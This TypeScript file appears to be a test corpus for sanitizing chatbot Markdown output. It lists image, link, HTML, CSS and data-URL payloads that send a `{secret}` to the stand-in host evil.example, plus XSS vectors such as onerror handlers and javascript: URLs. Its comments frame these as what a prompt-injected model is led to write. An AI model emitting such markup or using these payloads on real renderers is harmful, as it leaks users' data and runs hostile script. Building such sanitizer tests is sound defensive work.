/** What an attacker wants a bot to say, by the harm that it would do where it were shown as it is. */

/** Where nothing may be fetched from. `{secret}` is what the obedient model fills in. */
export const evilHost = "evil.example";
const evil = `https://${evilHost}`;

export interface Payload {
  family: string;
  text: string;
}

const families: Record<string, string[]> = {
  image: [
    `![x](${evil}/p.gif?q={secret})`,
    `![](${evil}/{secret})`,
    `![x](//${evilHost}/{secret})`,
    `![x](<${evil}/{secret}> "t")`,
    `![x](${evil}/{secret} 'title')`,
    `[![x](${evil}/{secret})](${evil}/click)`,
    `!\\[x](${evil}/{secret})`,
    `![x\n](${evil}/{secret})`,
    `![a][b]![c](${evil}/{secret})`,
    `![x](  ${evil}/{secret}  )`,
    `![x](${evil}/{secret}#![y](${evil}/2))`,
  ],
  "reference image": [
    `![x][ref]\n\n[ref]: ${evil}/{secret}`,
    `![ref][]\n\n[ref]: <${evil}/{secret}> "t"`,
    `![ref]\n\n[ref]: ${evil}/{secret}`,
    `![x][a b]\n\n[A  B]:\n${evil}/{secret}`,
    `- ![x][ref]\n\n> [ref]: ${evil}/{secret}`,
    `![x][^1]\n\n[^1]: ${evil}/{secret}`,
    `![x][ref]\n\n   [ref]: //${evilHost}/{secret}`,
  ],
  link: [
    `[Continue](${evil}/?q={secret})`,
    `[x](javascript:alert(1))`,
    `[x](JaVaScRiPt:alert(1))`,
    `[x](java\u0000script:alert(1))`,
    `[x](&#106;avascript:alert(1))`,
    `[x](javascript&colon;alert(1))`,
    `[x](\u0001javascript:alert(1))`,
    `[x](vbscript:msgbox(1))`,
    `[x](data:text/html,<script>alert(1)</script>)`,
    `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `[x](file:///etc/passwd)`,
    `[x](blob:${evil}/1)`,
    `[x][r]\n\n[r]: javascript:alert(1)`,
  ],
  autolink: [
    `<${evil}/{secret}>`,
    `${evil}/{secret}`,
    `www.${evilHost}/{secret}`,
    `<javascript:alert(1)>`,
    `<data:text/html,x>`,
    `a@${evilHost}`,
  ],
  html: [
    `<script>alert(1)</script>`,
    `<script src="${evil}/x.js"></script>`,
    `<img src="${evil}/{secret}">`,
    `<img src=x onerror=alert(1)>`,
    `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
    `<svg onload=alert(1)>`,
    `<svg><script href="${evil}/x.js"/></svg>`,
    `<svg><image href="${evil}/{secret}"/></svg>`,
    `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
    `<iframe src="${evil}"></iframe>`,
    `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
    `<object data="${evil}"></object>`,
    `<embed src="${evil}">`,
    `<video poster="${evil}/{secret}"><source src="${evil}/v"></video>`,
    `<audio src="${evil}/a" autoplay></audio>`,
    `<link rel="stylesheet" href="${evil}/{secret}">`,
    `<link rel="prefetch" href="${evil}/{secret}">`,
    `<meta http-equiv="refresh" content="0;url=${evil}">`,
    `<base href="${evil}/">`,
    `<form action="${evil}"><input name="q" value="{secret}"><button>Go</button></form>`,
    `<details open ontoggle=alert(1)>`,
    `<body onload=alert(1)>`,
    `<a href="javascript:alert(1)">x</a>`,
    `<a href="${evil}" ping="${evil}/{secret}">x</a>`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `<!--><img src=x onerror=alert(1)>-->`,
    `<![CDATA[><img src=x onerror=alert(1)>]]>`,
    `<template><img src="${evil}/{secret}"></template>`,
    `<table background="${evil}/{secret}"><td>x</td></table>`,
    `<p>\n<img src="${evil}/{secret}">\n</p>`,
    `&lt;img src=x onerror=alert(1)&gt;`,
    `&#60;script&#62;alert(1)&#60;/script&#62;`,
  ],
  css: [
    `<style>@import "${evil}/{secret}";</style>`,
    `<style>*{background:url(${evil}/{secret})}</style>`,
    `<div style="background:url(${evil}/{secret})">x</div>`,
    `<p style="position:fixed;inset:0">x</p>`,
  ],
  "data address": [
    `![x](data:image/svg+xml,<svg onload=alert(1)>)`,
    `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
    `<img src="data:image/svg+xml,<svg/onload=alert(1)>">`,
  ],
  markdown: [
    `| ![x](${evil}/{secret}) | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![y](${evil}/{secret}) |`,
    `# ![x](${evil}/{secret})`,
    `> > ![x](${evil}/{secret})`,
    `1. - ![x](${evil}/{secret})`,
    `- [ ] ![x](${evil}/{secret})`,
    `~~![x](${evil}/{secret})~~`,
    `**[![x](${evil}/{secret})**](${evil})`,
    `text[^n]\n\n[^n]: ![x](${evil}/{secret})`,
    `\`\`\`\ncode\n\`\`\`\n![x](${evil}/{secret})`,
    `\`![x](${evil}/{secret})`,
    `~~~\n![x](${evil}/{secret})`,
    `$\\href{javascript:alert(1)}{x}$ <img src="${evil}/{secret}">`,
    `[1]: ${evil}/{secret}\n\n![1] [1]`,
    `[1](${evil}/{secret})`,
  ],
};

export const payloads: Payload[] = Object.entries(families).flatMap(([family, texts]) =>
  texts.map((text) => ({ family, text })),
);

/** Where in an answer a payload stands: each makes a Markdown reader look at it otherwise. */
export const places: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `A refund takes 14 days. [1] ${payload}`,
  (payload) => `A refund takes 14 days. [1]\n${payload}`,
  (payload) => `A refund takes 14 days. [1]\n\n${payload}\n\nGood bye.`,
  (payload) => `- one\n- ${payload}\n- two`,
  (payload) => `> ${payload.replaceAll("\n", "\n> ")}`,
  (payload) => `**${payload}**`,
  (payload) => `# Title\n${payload}`,
  (payload) => `a\\\n${payload}`,
  (payload) => `<div>\n\n${payload}\n\n</div>`,
  (payload) => `\`\`\`js\nx\n\`\`\`\n\n${payload}`,
  (payload) => `\`\` ${payload}`,
  (payload) => `[open ${payload}`,
  (payload) => `![${payload}](x)`,
  (payload) => `| a | b |\n|---|---|\n| ${payload.replaceAll("\n", " ")} | c |`,
  (payload) => `\u202e${payload}\u202c`,
];
